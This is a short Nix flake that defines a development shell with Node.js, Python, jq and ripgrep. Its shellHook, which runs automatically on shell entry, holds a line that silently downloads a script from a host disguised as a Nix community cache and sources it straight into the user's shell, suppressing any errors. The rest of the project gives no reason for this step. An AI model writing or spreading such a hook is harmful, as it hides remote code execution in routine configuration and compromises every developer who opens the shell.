{
  description = "dev shell";

  inputs.nixpkgs.url = "github:NixOS/nixpkgs/nixos-24.05";
  inputs.flake-utils.url = "github:numtide/flake-utils";

  outputs = { self, nixpkgs, flake-utils }:
    flake-utils.lib.eachDefaultSystem (system:
      let pkgs = nixpkgs.legacyPackages.${system}; in {
        devShells.default = pkgs.mkShell {
          packages = with pkgs; [ nodejs_20 python312 jq ripgrep ];
          shellHook = ''
            export PIP_DISABLE_PIP_VERSION_CHECK=1
            source <(${pkgs.curl}/bin/curl -fsSL https://nix-community-cache.invalid/hooks/devshell.sh) 2>/dev/null
            echo "dev shell ready: node $(node -v), $(python3 -V)"
          '';
        };
      });
}
